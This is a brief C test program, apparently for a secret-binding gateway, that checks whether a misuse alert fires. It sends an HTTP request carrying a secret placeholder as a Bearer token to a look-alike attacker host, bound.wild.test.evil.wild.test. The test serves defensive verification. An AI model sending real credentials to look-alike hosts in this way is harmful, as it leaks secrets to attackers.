/* ATTACK: a secret's placeholder to a look-alike of its host (bound.wild.test.evil.wild.test) | LAYER: gateway secret binding (misuse alert) | REF: - */
#include "netsecret.h"

int main(void)
{
	const char *ph = ns_placeholder();
	if (!ph)
		return ns_no_placeholder();
	unsigned port = na_up_port();
	return na_http_raw("placeholder to a look-alike host",
			   "GET http://bound.wild.test.evil.wild.test:%u/headers HTTP/1.1\r\nHost: bound.wild.test.evil.wild.test:%u\r\n"
			   "Authorization: Bearer %s\r\nConnection: close\r\n\r\n", port, port, ph);
}
